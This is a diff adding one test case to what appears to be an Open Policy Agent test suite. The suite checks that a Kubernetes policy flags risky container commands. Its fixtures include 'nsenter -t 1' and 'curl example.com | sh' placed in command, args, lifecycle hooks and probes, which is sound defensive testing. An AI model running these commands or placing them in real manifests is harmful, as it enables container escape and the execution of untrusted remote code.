@@ -21,6 +21,7 @@ test_warns[note] if {
 		"arguments": [{"args": ["nsenter", "-t", "1"]}, "command"],
 		"in both": [{"command": ["curl", "example.com"], "args": ["|", "sh"]}, "command"],
 		"after the start": [{"lifecycle": {"postStart": {"exec": {"command": ["nsenter"]}}}}, "lifecycle.postStart.exec.command"],
+		"words": [{"lifecycle": {"postStart": {"exec": {"command": ["curl", "example.com", "|", "sh"]}}}}, "lifecycle.postStart.exec.command"],
 		"before the end": [{"lifecycle": {"preStop": {"exec": {"command": ["nsenter"]}}}}, "lifecycle.preStop.exec.command"],
 		"liveness": [{"livenessProbe": {"exec": {"command": ["nsenter"]}}}, "livenessProbe.exec.command"],
 		"readiness": [{"readinessProbe": {"exec": {"command": ["nsenter"]}}}, "readinessProbe.exec.command"],
